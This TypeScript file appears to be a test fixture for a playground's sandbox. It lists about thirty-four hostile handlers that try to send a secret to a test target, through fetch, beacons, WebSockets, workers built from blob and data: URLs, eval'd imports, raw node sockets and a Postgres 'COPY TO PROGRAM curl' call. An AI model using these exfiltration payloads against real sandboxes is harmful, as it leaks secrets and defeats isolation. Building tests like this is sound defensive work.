import type { HostileProgram } from './attack.ts';

/** Every way out of a worker that a browser or the playground's Node might have. */
export const exfiltration: readonly HostileProgram[] = [
  { name: 'fetch', handler: 'await fetch(`${target}/fetch?${secret}`); return 1;' },
  {
    name: 'fetch without CORS',
    handler: "await fetch(`${target}/post`, { method: 'POST', mode: 'no-cors', body: secret }); return 1;",
  },
  {
    name: 'fetch that outlives its page',
    handler: "await fetch(`${target}/keep`, { method: 'POST', keepalive: true, body: secret }); return 1;",
  },
  { name: 'a beacon', handler: 'return scope.navigator.sendBeacon(`${target}/beacon`, secret);' },
  {
    name: 'XMLHttpRequest',
    handler:
      "const r = new scope.XMLHttpRequest(); r.open('POST', `${target}/xhr`, false); r.send(secret); return r.status;",
  },
  {
    name: 'a WebSocket',
    handler:
      "const s = new scope.WebSocket(target.replace('http', 'ws') + '/ws'); s.onopen = () => s.send(secret); await wait(150); return s.readyState;",
  },
  {
    name: 'a WebSocketStream',
    handler: "await new scope.WebSocketStream(target.replace('http', 'ws') + '/wss').opened; return 1;",
  },
  {
    name: 'an EventSource',
    handler:
      'const s = new scope.EventSource(`${target}/events?${secret}`); await wait(150); return s.readyState;',
  },
  {
    name: 'WebTransport',
    handler: "await new scope.WebTransport(target.replace('http:', 'https:') + '/wt').ready; return 1;",
  },
  {
    name: 'WebRTC',
    handler:
      "const c = new scope.RTCPeerConnection({ iceServers: [{ urls: 'stun:' + target.slice(7) }] }); c.createDataChannel('x'); await c.setLocalDescription(); await wait(150); return 1;",
  },
  {
    name: 'an image',
    handler: 'const i = new scope.Image(); i.src = `${target}/image?${secret}`; await wait(100); return 1;',
  },
  {
    name: 'a font',
    handler: "await new scope.FontFace('x', `url(${target}/font?${secret})`).load(); return 1;",
  },
  { name: 'importScripts', handler: 'scope.importScripts(`${target}/script?${secret}`); return 1;' },
  { name: 'import() of an address', handler: 'await import(`${target}/module.js`); return 1;' },
  {
    name: 'import() in evaluated code',
    handler: "await (0, eval)(`import('${target}/module.js?${secret}')`); return 1;",
  },
  {
    name: 'import() in a function made of text',
    handler: "await new Function('a', 'return import(a)')(`${target}/module.js`); return 1;",
  },
  {
    name: 'a worker from an address',
    handler: 'new scope.Worker(`${target}/worker.js`); await wait(100); return 1;',
  },
  {
    name: 'a worker from a data: address',
    handler:
      "new scope.Worker(`data:text/javascript,fetch('${target}/data-worker')`); await wait(200); return 1;",
  },
  {
    name: 'a worker from a blob',
    handler:
      "const u = URL.createObjectURL(new Blob([`fetch('${target}/blob-worker').catch(() => 0); try { importScripts('${target}/blob-script') } catch {}`])); new scope.Worker(u); await wait(300); return 1;",
  },
  {
    name: 'a module worker from a blob',
    handler:
      "const u = URL.createObjectURL(new Blob([`import '${target}/blob-module'`])); new scope.Worker(u, { type: 'module' }); await wait(300); return 1;",
  },
  {
    name: 'a shared worker',
    handler: 'new scope.SharedWorker(`${target}/shared.js`); await wait(100); return 1;',
  },
  {
    name: 'a service worker',
    handler: 'await scope.navigator.serviceWorker.register(`${target}/service.js`); return 1;',
  },
  { name: 'a cache', handler: "const c = await caches.open('x'); await c.add(`${target}/cache`); return 1;" },
  {
    name: 'background fetch',
    handler: 'await scope.registration.backgroundFetch.fetch("x", [`${target}/background`]); return 1;',
  },
  { name: 'navigation', handler: 'scope.location = `${target}/navigate`; await wait(100); return 1;' },
  {
    name: 'navigation by assigning the address',
    handler: 'scope.location.href = `${target}/navigate`; await wait(100); return 1;',
  },
  { name: 'a window', handler: 'scope.open(`${target}/window`); await wait(100); return 1;' },
  {
    name: 'a redirect of its answer',
    handler: 'return reply.redirect(`${target}/redirect?${secret}`);',
  },
  {
    name: 'a page as its answer',
    handler:
      'return reply.type(\'text/html\').header(\'link\', `<${target}/preload>; rel=preload; as=image`).send(`<img src="${target}/html"><script src="${target}/js"></script>`);',
  },
  {
    name: 'a socket of node:net',
    handler:
      "const net: any = await import('node:net'); const s = net.connect({ host: '127.0.0.1', port: Number(target.split(':')[2]) }); s.on('error', () => {}); s.write(secret); await wait(100); return 1;",
  },
  {
    name: 'a request of node:http',
    handler:
      "const http: any = await import('node:http'); const r = http.request(target + '/node'); r.on('error', () => {}); r.end(secret); await wait(100); return 1;",
  },
  {
    name: 'a pool to a host of its own',
    handler:
      "const other = new pg.Pool({ host: '127.0.0.1', port: Number(target.split(':')[2]), connectionTimeoutMillis: 300 }); await other.query(`SELECT '${secret}'`); return 1;",
  },
  {
    name: 'a program that the database starts',
    handler: "await pool.query(`COPY (SELECT 1) TO PROGRAM 'curl ${target}/copy'`); return 1;",
  },
  {
    name: 'an extension that reaches other databases',
    handler: "await pool.query('CREATE EXTENSION dblink'); return 1;",
  },
];
